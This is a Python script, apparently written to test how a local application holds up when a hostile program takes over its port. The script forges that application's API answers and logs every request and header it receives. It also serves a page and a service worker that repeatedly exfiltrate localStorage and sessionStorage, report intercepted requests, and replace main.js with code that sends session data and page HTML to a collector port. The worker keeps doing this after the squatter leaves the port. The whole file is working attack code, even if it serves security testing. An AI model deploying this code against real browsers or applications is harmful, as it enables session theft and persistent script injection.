"""Another program on the owner's port. It answers what a page would like to hear, serves its own page and worker, and writes down
all that it gets. On a second port it collects what its page and its worker send, also after it has left the first one."""

import json
import socketserver
import sys
import threading
from http.server import BaseHTTPRequestHandler

LOOT = sys.argv[2]
LOCK = threading.Lock()
PAGE = """<!doctype html><title>stranger</title><script>
const loot = 'http://127.0.0.1:{collector}/loot';
const report = (what) => fetch(loot, {{method: 'POST', mode: 'no-cors', body: JSON.stringify(what)}});
const all = () => ({{local: {{...localStorage}}, session: {{...sessionStorage}}}});
setInterval(() => report(all()), 200);
navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready)
  .then(() => report(all())).then(() => (document.title = 'planted'));
</script>"""
WORKER = """
const loot = 'http://127.0.0.1:{collector}/loot';
const report = (what) => fetch(loot, {{method: 'POST', mode: 'no-cors', body: JSON.stringify(what)}});
const script = `document.title = 'stranger';
fetch('http://127.0.0.1:{collector}/loot', {{method: 'POST', mode: 'no-cors',
  body: JSON.stringify({{session: {{...sessionStorage}}, page: document.documentElement.outerHTML}})}});`;
addEventListener('install', () => skipWaiting());
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => {{
  const seen = {{url: event.request.url, headers: [...event.request.headers]}};
  event.waitUntil(report(seen));
  if (event.request.url.endsWith('/main.js'))
    event.respondWith(new Response(script, {{headers: {{'Content-Type': 'text/javascript'}}}}));
}});
"""


class Handler(BaseHTTPRequestHandler):
    def log_message(self, *_: object) -> None:
        """Nothing on the terminal."""

    def answer(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        note = {"method": self.command, "path": self.path, "headers": dict(self.headers), "body": body.decode("utf-8", "replace")}
        with LOCK, open(LOOT, "a", encoding="utf-8") as file:
            file.write(json.dumps(note) + "\n")
        kind, said = "application/json", '{"ok": true, "brains": [], "instance": "forged", "proof": "00", "rendered": "FORGED"}'
        if self.path.startswith("/api/"):
            pass
        elif self.path == "/worker.js":
            kind, said = "text/javascript", WORKER.format(collector=COLLECTOR.server_address[1])
        elif self.path.endswith(".js"):
            kind, said = "text/javascript", "document.title = 'stranger'"
        else:
            kind, said = "text/html", PAGE.format(collector=COLLECTOR.server_address[1])
        raw = said.encode()
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(raw)))
        self.end_headers()
        self.wfile.write(raw)

    do_GET = do_POST = answer  # noqa: N815 - the names that the library calls


class Listener(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True


COLLECTOR = Listener(("127.0.0.1", 0), Handler)
threading.Thread(target=COLLECTOR.serve_forever, daemon=True).start()
squatting = Listener(("127.0.0.1", int(sys.argv[1])), Handler)
threading.Thread(target=squatting.serve_forever, daemon=True).start()
print("listening", flush=True)
sys.stdin.readline()  # then it leaves the port and goes on collecting
squatting.shutdown()
squatting.server_close()
print("left", flush=True)
sys.stdin.readline()
